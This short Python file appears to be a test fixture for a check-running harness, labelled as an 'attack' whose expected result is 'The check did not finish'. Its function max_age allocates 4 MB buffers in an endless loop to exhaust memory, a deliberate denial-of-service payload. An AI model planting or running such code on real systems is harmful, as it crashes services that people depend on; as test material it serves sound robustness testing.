# /// attack
# answer = "max_age"
# says = "The check did not finish"
# ///
"""Take all memory in the call of a check."""


def max_age(*_, **__):
    held = []
    while True:
        held.append(bytearray(4 << 20))
